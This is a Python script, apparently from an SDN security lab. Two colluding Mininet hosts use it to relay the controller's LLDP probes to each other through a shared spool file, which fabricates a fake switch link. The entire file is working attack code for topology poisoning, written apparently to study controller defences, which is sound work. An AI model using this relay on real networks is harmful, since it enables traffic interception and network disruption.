"""Runs inside a Mininet host, one of two colluding attackers on two switches: relays LLDP between its own port and
its partner's, so that the controller's genuine signed probes cross between two host ports as if a cable joined them.

usage: relay_lldp.py IFACE OUT_SPOOL IN_SPOOL SECONDS

Every LLDP frame arriving on IFACE (not one this script sent) is appended, hex, to OUT_SPOOL; every new line of
IN_SPOOL (the partner's captures) is sent out of IFACE at once, unchanged. The two hosts share the file system, which
stands in for the attackers' own channel. Prints one JSON line: {"captured": n, "sent": n}.
"""
import json
import sys
import time

from scapy.all import AsyncSniffer, conf, sendp

conf.verb = 0
iface, out_spool, in_spool, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
sent = set()
captured = 0


def capture(packet):
    global captured
    frame = bytes(packet)
    if frame[12:14] != b"\x88\xcc" or frame in sent:
        return
    captured += 1
    with open(out_spool, "a") as out:
        out.write(frame.hex() + "\n")


sniffer = AsyncSniffer(iface=iface, prn=capture, store=False)
sniffer.start()
read = 0
deadline = time.monotonic() + seconds
while time.monotonic() < deadline:
    try:
        with open(in_spool) as spool:
            lines = spool.read().splitlines()
    except FileNotFoundError:
        lines = []
    for line in lines[read:]:
        frame = bytes.fromhex(line)
        sent.add(frame)
        sendp(frame, iface=iface)
    read = max(read, len(lines))
    time.sleep(0.02)
sniffer.stop()
print(json.dumps({"captured": captured, "sent": len(sent)}))
